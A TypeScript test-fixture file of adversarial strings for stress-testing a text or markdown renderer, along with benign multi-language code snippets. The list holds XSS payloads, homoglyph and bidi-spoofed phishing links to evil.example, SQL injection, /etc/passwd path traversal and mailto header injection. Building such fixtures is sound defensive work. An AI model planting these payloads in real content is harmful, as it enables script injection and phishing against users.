// Texts that people send to break a page or to fool who reads it.

const up = (n: number): string => Array.from({ length: n }, (_, at) => String.fromCharCode(0x300 + (at % 0x6f))).join('');
const zalgo = (text: string, n: number): string => [...text].map((letter) => letter + up(n)).join('');

const tags = [
  '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">press</a>', '<style>*{display:none}</style>', '<link rel=stylesheet href=//evil.example/a.css>',
  '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<form action=//evil.example><input name=p>',
  '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '"><img src=x onerror=alert(1)>',
  "'><script>alert(1)</script>", '</article></main></body></html>', '<!-- ', ']]>', '<![CDATA[<script>alert(1)</script>]]>', '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<object data="javascript:alert(1)">', '<embed src="javascript:alert(1)">', '<input autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>', '<plaintext>',
  '<div style="position:fixed;inset:0;background:red">over all</div>', '<dialog open>hello</dialog>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}',
];
const links = [
  '[press](javascript:alert(1))', '[press](JaVaScRiPt:alert(1))', '[press](java\tscript:alert(1))', '[press](\u200bjavascript:alert(1))', '[press](javascript&#58;alert(1))',
  '[press](data:text/html,<script>alert(1)</script>)', '[press](vbscript:msgbox(1))', '[press](file:///etc/passwd)', '[press](blob:https://a.example/1)',
  '<javascript:alert(1)>', '![picture](https://evil.example/spy.png)', '![picture](javascript:alert(1))', '[ref]: javascript:alert(1)\n\n[ref]',
  '[https://bank.example](https://evil.example)', '[bank.example](https://evil.example/bank.example)', '[www.bank.example/login](https://evil.example)',
  '[see bank.example for more](https://evil.example)', '[**bank.example**](https://evil.example)', '[`bank.example`](https://evil.example)',
  '[bank\u200b.example](https://evil.example)', '[bank\u00ad.example](https://evil.example)', '[b\u0430nk.example](https://evil.example)',
  '[ｂａｎｋ．ｅｘａｍｐｌｅ](https://evil.example)', '[\u202eelpmaxe.knab](https://evil.example)', '[bank。example](https://evil.example)', '[bank.example](https://bank.example@evil.example)',
  'https://bank.example@evil.example/', 'https://bank.example:443@evil.example', 'https://b\u0430nk.example/', 'https://аррӏе.example/', 'https://xn--80ak6aa92e.example/',
  'https://bank.example.evil.example/', 'https://evil.example/\u202ecod.exe', 'https://evil.example/#bank.example', 'https://evil.example/?https://bank.example',
  'https://bank.example\u2044login.evil.example', 'https://bank.example%2f@evil.example', '[mail](mailto:a@b.example?subject=x%0d%0abcc:c@d.example)', '[you@bank.example](mailto:me@evil.example)',
  '[https://bank.example](HTTPS://EVIL.EXAMPLE)', '[ https://bank.example](https://evil.example)', '[https:bank.example](https://evil.example)', '[//bank.example](https://evil.example)',
];
const letters = [
  zalgo('he comes', 12), zalgo('tall', 60), zalgo('a', 400), up(300), '\u202eright to left', 'file\u202egnp.exe', '\u2067isolated\u2066 and \u2068again', '\u202a\u202b\u202d\u202ex\u202c', `${'\u2066'.repeat(200)}x`,
  'مرحبا بالعالم', 'שלום (עולם) 123', 'abc שלום 123 مرحبا', '\u200b'.repeat(500) + 'x', '\ufeffx\ufeff', '\u00ad'.repeat(300) + 'soft', 'a\u034fb', '\u3164', '\u115f\u1160\u3164', '\u2800'.repeat(100),
  '\ufffd\ufffd', '𓀀𓂀𓃀'.repeat(30), '﷽'.repeat(60), '𒐫'.repeat(60), '꧅'.repeat(60), 'ௌ்ௌ்'.repeat(30), 'ᄀ'.repeat(80), '각'.repeat(100), '🏳️‍🌈'.repeat(60), '👩‍👩‍👧‍👦'.repeat(60),
  '😀'.repeat(200), '👍🏿'.repeat(200), '1️⃣'.repeat(100), '\u{e0041}'.repeat(100), '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}', '🇦'.repeat(99), 'W'.repeat(3_000), 'x'.repeat(16_000), '_'.repeat(2_000), '-'.repeat(3_000),
  'a '.repeat(8_000), '\n'.repeat(300) + 'far below', 'line\n'.repeat(500), 'a\u2028b\u2029c', '\t'.repeat(300) + 't', '\u00a0'.repeat(2_000) + 'n', '/'.repeat(1_500), 'мир'.repeat(900), '漢字'.repeat(800), 'a\u0332'.repeat(800),
];
const marks = [
  '> '.repeat(300) + 'deep', '>'.repeat(2_000), '- '.repeat(300) + 'deep', '* a\n'.repeat(300), `${'  '.repeat(120)}- in`, '1. '.repeat(200) + 'deep', '999999999. big', '#'.repeat(50) + ' head', '# ' + 'W'.repeat(800),
  '**'.repeat(500), '*a **b '.repeat(300), '_'.repeat(301) + 'a' + '_'.repeat(301), '~~'.repeat(400), '||'.repeat(400), '||'.repeat(99) + 'x', '`'.repeat(900), '```\n' + 'x'.repeat(4_000), '```' + 'y'.repeat(900), '```js\n```\n```\n',
  '~~~html\n<script>alert(1)</script>\n~~~', '    <b>indented</b>', '['.repeat(900), '[a]('.repeat(300), '![['.repeat(200), '(' .repeat(900), '<'.repeat(900), '&'.repeat(900), '&#0;&#x0;&#99999999;', '\\'.repeat(999),
  '|a|\n|-|\n' + '|b|\n'.repeat(200), `|${'a|'.repeat(60)}\n|${'-|'.repeat(60)}\n|${'b|'.repeat(60)}`, '|' .repeat(999), '---\n'.repeat(99), '===\n'.repeat(99), 'a\n===\nb\n---', '[x]: https://a.example\n'.repeat(99) + '[x]',
  '$\\def\\a{\\a\\a}\\a$', '$$\\frac{1}{0}' + '{'.repeat(300) + '$$', '$\\href{javascript:alert(1)}{x}$', '$\\includegraphics{https://evil.example/a.png}$', '$\\htmlStyle{position:fixed}{x}$', '$' + 'x^'.repeat(300) + '$', '$\\rule{9999em}{9999em}$',
  '$\\kern9999em x$', '$'.repeat(700), '\\[ ' + '\\sqrt{'.repeat(200), '@all'.repeat(50), '@'.repeat(600), '#'.repeat(600), `${':smile:'.repeat(200)}`, ':'.repeat(900), `:${'a'.repeat(900)}:`, '/help', '//not a command',
  '- [x] '.repeat(200), '&nbsp;'.repeat(200), '%00%0a%0d', '__proto__', 'constructor', 'NULL', 'undefined', '[object Object]', 'true', "Robert'); DROP TABLE events;--", '\\u0000', '../../../etc/passwd',
  '{"t":"event","seq":1}', '[31mred[0m', 'https://a.example/' + 'p/'.repeat(900), 'https://' + 'a.'.repeat(120) + 'example', '<https://a.example/' + 'q'.repeat(900) + '>', 'a@b.example'.repeat(60), 'http://[::1]/', 'http://127.0.0.1:1/', 'a' + '\u202e'.repeat(99), `${up(40)} ${up(40)}`, '\u202e[bank.example](https://evil.example)',
];

export const HOSTILE: readonly string[] = [...tags, ...links, ...letters, ...marks];

export const SNIPPETS: readonly [string, string][] = [
  ['ts', 'const a: Map<string, number> = new Map();\n\tif (a.size > 0) return `x${1}`;'],
  ['js', 'for (const [k, v] of Object.entries({ a: 1 })) console.log(k, v); // <b>'],
  ['python', 'def f(*a, **k):\n    """doc <i>"""\n    return {k: v for k, v in k.items()}'],
  ['c', '#include <stdio.h>\nint main(void) { return printf("%d\\n", 1 << 3) & 0; }'],
  ['rust', "fn f<'a>(x: &'a str) -> Option<&'a str> { Some(x) }"],
  ['go', 'func main() {\n\tgo func() { ch <- 1 }()\n}'],
  ['json', '{ "a": [1, 2.5e3, null, true], "b": "\\u00e9 *x*" }'],
  ['html', '<!doctype html>\n<p class="a">&amp; <!-- no --></p>'],
  ['css', '.a > b::before { content: "\\201c"; width: calc(100% - 2px) }'],
  ['sql', "SELECT a.*, 'it''s' FROM a WHERE b <> 2; -- end"],
  ['bash', 'for f in *.txt; do echo "${f%.txt}" >>"$HOME/_x_"; done'],
  ['', `nothing *is* _marked_ here: https://a.example ${'wide '.repeat(80)}\n\n\n  :smile: @all`],
];
